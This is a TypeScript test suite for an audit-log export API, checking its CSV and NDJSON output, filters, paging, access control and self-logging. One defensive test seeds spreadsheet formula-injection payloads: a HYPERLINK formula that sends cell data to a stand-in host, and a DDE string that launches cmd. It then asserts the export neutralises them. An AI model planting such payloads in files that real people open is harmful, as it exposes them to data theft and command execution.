/**
 * The audit-log export cases, run on libSQL (`audit-log.libsql.test.ts`) and on D1
 * (`audit-log.d1.test.ts`): the export holds exactly what paging through the list gives for the
 * same filters, in the same order, and is itself on the record.
 */
import { beforeAll, describe, expect, it } from "vitest";
import type { AuditAction } from "../audit/actions.ts";
import { CSV_COLUMNS } from "../audit/export.ts";
import type { Database } from "../db/index.ts";
import { memberships } from "../db/schema.ts";
import { entryAt, seed } from "./audit-log.cases.ts";
import { parseCsv } from "./csv.ts";
import { createFixture, type Fixture } from "./fixture.ts";

const DAY = 86_400_000;

type Entry = Record<string, unknown> & {
  id: string;
  action: string;
  outcome: string;
  actor: { id: string; name: string };
  metadata: Record<string, unknown>;
};

export function auditExportCases(open: () => Promise<Database>) {
  let f: Fixture;
  beforeAll(async () => {
    f = await createFixture(await open());
  });

  const exportOf = (projectId: string, query: string, token = f.owner.token) =>
    f.call("GET", `/v2/projects/${projectId}/audit-log/export?${query}`, { token });

  /** Every entry the list API gives for `query`, following its pages. */
  const listAll = async (projectId: string, query = "") => {
    const entries: Entry[] = [];
    let next: string | undefined;
    for (let pages = 0; pages < 100; pages++) {
      const params = new URLSearchParams(query);
      params.set("limit", "200");
      if (next) params.set("nextToken", next);
      const res = await f.call("GET", `/v2/projects/${projectId}/audit-log?${params}`);
      expect(res.status).toBe(200);
      const page = (await res.json()) as { logs: Entry[]; nextPageToken?: string };
      entries.push(...page.logs);
      next = page.nextPageToken;
      if (!next) break;
    }
    return entries;
  };

  /** The body as UTF-8 (workerd warns on `.text()` of a type it does not know as text). */
  const textOf = async (res: Response) => new TextDecoder().decode(await res.arrayBuffer());

  const ndjson = (text: string) =>
    text === ""
      ? []
      : text
          .replace(/\n$/, "")
          .split("\n")
          .map((l) => JSON.parse(l) as Entry);

  describe("audit-log export: every entry, as the list pages through them", () => {
    let projectId: string;
    beforeAll(async () => {
      projectId = await f.addProject();
      const now = Date.now();
      const actions: AuditAction[] = ["apps.deploy", "secrets.read", "secrets.write"];
      // 1,234 entries, three sharing each millisecond: several pages of 500, with ties.
      const rows = Array.from({ length: 1234 }, (_, i) =>
        entryAt(projectId, now - 60_000 - Math.floor(i / 3), {
          action: actions[i % 3],
          actorId: i % 2 ? "usr_a" : "sa_b",
          outcome: i % 5 ? "success" : "failure",
          metadata: { n: i },
        }),
      );
      await seed(f.db, rows);
    });

    it("CSV: a header, then one record per entry the list gives, in its order", async () => {
      const res = await exportOf(projectId, "format=csv");
      expect(res.status).toBe(200);
      expect(res.headers.get("content-type")).toBe("text/csv; charset=utf-8");
      const date = new Date().toISOString().slice(0, 10);
      expect(res.headers.get("content-disposition")).toBe(
        `attachment; filename="audit-log-${projectId}-${date}.csv"`,
      );
      const [header, ...records] = parseCsv(await textOf(res));
      const listed = await listAll(projectId);
      // The seeded entries and the export's own entry, which it lists first.
      expect(listed).toHaveLength(1235);
      expect(header).toEqual([...CSV_COLUMNS]);
      expect(records).toHaveLength(listed.length);
      expect(records.map((r) => r[0])).toEqual(listed.map((e) => e.id));
      expect(records[0]?.slice(2, 5)).toEqual(["audit_log.export", "user", f.owner.id]);
      const last = listed.at(-1) as Entry;
      expect(JSON.parse(records.at(-1)?.[12] ?? "")).toEqual(last.metadata);
    });

    it("NDJSON: the list's entries, line for line", async () => {
      const res = await exportOf(projectId, "format=ndjson");
      expect(res.status).toBe(200);
      expect(res.headers.get("content-type")).toBe("application/x-ndjson");
      expect(res.headers.get("content-disposition")).toMatch(/\.ndjson"$/);
      const lines = ndjson(await textOf(res));
      expect(lines).toEqual(await listAll(projectId));
    });

    it("arrives page by page, never more than 500 entries in one piece", async () => {
      const res = await exportOf(projectId, "format=ndjson");
      const decoder = new TextDecoder();
      const sizes: number[] = [];
      for await (const chunk of res.body as unknown as AsyncIterable<Uint8Array>) {
        sizes.push(decoder.decode(chunk).split("\n").length - 1);
      }
      expect(sizes.length).toBeGreaterThanOrEqual(3);
      expect(Math.max(...sizes)).toBeLessThanOrEqual(500);
      expect(sizes.reduce((a, b) => a + b, 0)).toBe((await listAll(projectId)).length);
    });

    it.each([
      ["action=secrets.read"],
      ["actor=usr_a&outcome=failure"],
      ["action=apps.deploy&actor=sa_b&outcome=success"],
      ["outcome=failure"],
    ])("applies the filters: %s", async (query) => {
      const res = await exportOf(projectId, `format=ndjson&${query}`);
      const lines = ndjson(await textOf(res));
      expect(lines.length).toBeGreaterThan(0);
      expect(lines).toEqual(await listAll(projectId, query));
      const filter = Object.fromEntries(new URLSearchParams(query));
      for (const e of lines) {
        if (filter.action) expect(e.action).toBe(filter.action);
        if (filter.actor) expect(e.actor.id).toBe(filter.actor);
        if (filter.outcome) expect(e.outcome).toBe(filter.outcome);
      }
    });

    it("applies a window, and clamps from to the plan's", async () => {
      const other = await f.addProject();
      const now = Date.now();
      await seed(f.db, [
        entryAt(other, now - 3 * DAY, { targetId: "recent" }),
        entryAt(other, now - 5 * DAY, { targetId: "inside" }),
        entryAt(other, now - 8 * DAY, { targetId: "outside" }),
      ]);
      const targets = async (query: string) => {
        const res = await exportOf(other, `format=ndjson&action=apps.deploy&${query}`);
        return ndjson(await textOf(res)).map((e) => (e.target as { id: string }).id);
      };
      const iso = (ms: number) => new Date(ms).toISOString();
      expect(await targets(`from=${iso(now - 30 * DAY)}`)).toEqual(["recent", "inside"]);
      expect(await targets(`to=${iso(now - 4 * DAY)}`)).toEqual(["inside"]);
      // A window wholly before retention: the header alone, not an error.
      const res = await exportOf(
        other,
        `format=csv&from=${iso(now - 9 * DAY)}&to=${iso(now - 8 * DAY)}`,
      );
      expect(res.status).toBe(200);
      expect(parseCsv(await textOf(res))).toEqual([[...CSV_COLUMNS]]);
    });

    it("is on the record as audit_log.export with its format and filters", async () => {
      await exportOf(projectId, "format=csv&action=apps.deploy&outcome=failure");
      const [entry] = await listAll(projectId, "action=audit_log.export");
      expect(entry).toMatchObject({
        action: "audit_log.export",
        outcome: "success",
        actor: { id: f.owner.id },
        target: { type: "project", id: projectId },
        metadata: { format: "csv", filters: { action: "apps.deploy", outcome: "failure" } },
      });
    });
  });

  describe("audit-log export: hostile text stays text", () => {
    it("quotes and neutralises an actor name and a user agent", async () => {
      const projectId = await f.addProject();
      const name = '=HYPERLINK("http://evil.example/?"&A1,"Click"), "quoted"\r\nnext';
      const agent = "@SUM(1+1)*cmd|' /C calc'!A0";
      await seed(f.db, [
        entryAt(projectId, Date.now() - 1000, { actorName: name, userAgent: agent }),
      ]);
      const res = await exportOf(projectId, "format=csv&action=apps.deploy");
      const text = await textOf(res);
      const records = parseCsv(text);
      expect(records).toHaveLength(2);
      const record = records[1] as string[];
      expect(record[5]).toBe(`'${name}`);
      expect(record[11]).toBe(`'${agent}`);
      // No field of the file starts with a formula character once unquoted.
      for (const field of records.flat()) expect(field).not.toMatch(/^[=+\-@\t\r]/);
      expect(text).toContain(
        '"\'=HYPERLINK(""http://evil.example/?""&A1,""Click""), ""quoted""\r\nnext"',
      );
      // NDJSON carries the text unaltered.
      const line = await textOf(await exportOf(projectId, "format=ndjson&action=apps.deploy"));
      expect(ndjson(line)[0]).toMatchObject({ actor: { name }, userAgent: agent });
    });
  });

  describe("audit-log export: bad requests and who may export", () => {
    it.each([
      ["", /^format: must be csv or ndjson/],
      ["format=xml", /^format: must be csv or ndjson/],
      ["format=CSV", /^format: /],
      ["format=csv&format=ndjson", /^format: /],
      ["format=csv&limit=5", /unknown query parameter 'limit'/],
      ["format=csv&nextToken=abc", /unknown query parameter 'nextToken'/],
      ["format=csv&from=yesterday", /^from: must be an RFC 3339/],
      ["format=csv&to=2026-11-22T10:00:00", /^to: /],
      ["format=csv&outcome=maybe", /^outcome: must be success or failure/],
      ["format=csv&action=secret.read", /^action: must be one of /],
      ["format=csv&actor=", /^actor: /],
      [
        "format=csv&from=2026-11-22T10:00:00Z&to=2026-11-22T09:00:00Z",
        /from must not be later than to/,
      ],
    ])("400 for %j", async (query, message) => {
      const res = await exportOf(f.projectId, query);
      expect(res.status).toBe(400);
      const body = (await res.json()) as { message: string };
      expect(body).toEqual({ message: expect.any(String), code: "bad_request" });
      expect(body.message).toMatch(message);
    });

    it("403 for a member and an outsider, 401 without a token, 404 for no project", async () => {
      const member = await exportOf(f.projectId, "format=csv", f.member.token);
      expect(member.status).toBe(403);
      expect(await member.json()).toEqual({
        message: `only the project owner may do this: your role in it is member (an owner may make you one: runlet users role ${f.member.id} owner)`,
        code: "forbidden",
      });
      expect((await exportOf(f.projectId, "format=csv", f.outsider.token)).status).toBe(403);
      const anonymous = await f.call(
        "GET",
        `/v2/projects/${f.projectId}/audit-log/export?format=csv`,
        {
          token: null,
        },
      );
      expect(anonymous.status).toBe(401);
      expect((await exportOf("prj_nope", "format=csv")).status).toBe(404);
    });

    it("records a refused and an invalid export as failures, and no success", async () => {
      const projectId = await f.addProject();
      await f.db.insert(memberships).values({ projectId, userId: f.member.id, role: "member" });
      expect((await exportOf(projectId, "format=csv", f.member.token)).status).toBe(403);
      expect((await exportOf(projectId, "format=xml")).status).toBe(400);
      const entries = await listAll(projectId, "action=audit_log.export");
      expect(entries).toMatchObject([
        { outcome: "failure", actor: { id: f.owner.id }, metadata: { status: 400 } },
        { outcome: "failure", actor: { id: f.member.id }, metadata: { status: 403 } },
      ]);
      expect(entries).toHaveLength(2);
    });
  });
}
